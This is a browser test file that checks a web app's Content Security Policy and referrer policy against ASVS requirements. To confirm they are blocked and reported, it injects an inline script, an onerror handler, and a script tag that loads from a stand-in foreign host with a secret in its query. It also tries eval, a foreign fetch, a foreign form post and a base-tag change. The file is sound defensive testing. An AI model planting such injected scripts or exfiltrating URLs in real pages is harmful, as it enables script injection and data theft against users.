import { eventually, invitePerson } from '@foyer/testkit'
import { expect, openSignIn, signIn, test } from '../story.ts'

const BLOCKED = /Content Security Policy/

test('ASVS 3.4.3, ASVS 3.4.7 a script that got into the page does not run, and the gateway hears of it', async ({
  page,
  gateway,
  expected,
}) => {
  expected.push(BLOCKED)
  await openSignIn(page)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.gotIn = "by a script"'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.gotIn = \'by a handler\'">')
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/code.js?secret=of-the-page' }),
    )
  })
  const reports = () => gateway.logLines.filter((line) => line.includes('a page violated its policy'))
  await eventually('all three are reported', () => reports().length >= 3)
  expect(await page.evaluate(() => 'gotIn' in window)).toBe(false)
  const told = reports().map((line) => JSON.parse(line) as { directive: string; blocked: string })
  expect(told.map(({ directive }) => directive).sort()).toEqual([
    'script-src-attr',
    'script-src-elem',
    'script-src-elem',
  ])
  expect(told.map(({ blocked }) => blocked)).toContain('https://elsewhere.example/code.js')
  expect(reports().join()).not.toContain('of-the-page')
})

test('ASVS 3.4.3 neither eval, nor a foreign connection, nor a foreign form, nor a new base gets past the policy', async ({
  page,
  expected,
}) => {
  expected.push(BLOCKED, /Refused to connect|Fetch API cannot load/)
  await signIn(page, 'manager')
  const outcome = await page.evaluate(async () => {
    const violated = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
    // At once, the tools of a test would be let through.
    await new Promise((resolve) => setTimeout(resolve))
    const evaluated = (() => {
      try {
        // biome-ignore lint/security/noGlobalEval: that it fails is what is tested.
        return String(globalThis.eval('1 + 1'))
      } catch (error) {
        return (error as Error).name
      }
    })()
    const connected = await fetch('https://elsewhere.example/').then(
      () => 'connected',
      () => 'refused',
    )
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))
    const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/', method: 'post' })
    document.body.append(form)
    form.submit()
    while (violated.size < 4) await new Promise((resolve) => setTimeout(resolve, 10))
    const base = new URL(document.baseURI).hostname
    return { evaluated, connected, base, path: location.pathname, violated: [...violated].sort() }
  })
  expect(outcome).toEqual({
    evaluated: 'EvalError',
    connected: 'refused',
    base: '127.0.0.1',
    path: '/home',
    violated: ['base-uri', 'connect-src', 'form-action', 'script-src'],
  })
})

test('ASVS 3.4.5 the page with the one-time link tells its address to nobody', async ({ page, gateway }) => {
  const { linkToken } = await invitePerson(gateway, { username: 'newcomer' })
  const told: Promise<Record<string, string>>[] = []
  page.on('request', (request) => told.push(request.allHeaders()))
  await page.goto(`/activeUser?from=mail#token=${linkToken}`)
  await page.locator('input[autocomplete="new-password"]').first().waitFor()
  await page.getByRole('contentinfo').getByRole('link').first().click()
  await expect(page).toHaveURL(/\/soc\//)
  await page.reload()
  expect(await page.evaluate(() => document.referrer)).toBe('')
  for (const headers of await Promise.all(told)) expect(headers['referer'] ?? '').toBe('')
  expect(gateway.logLines.join()).not.toContain(linkToken)
})
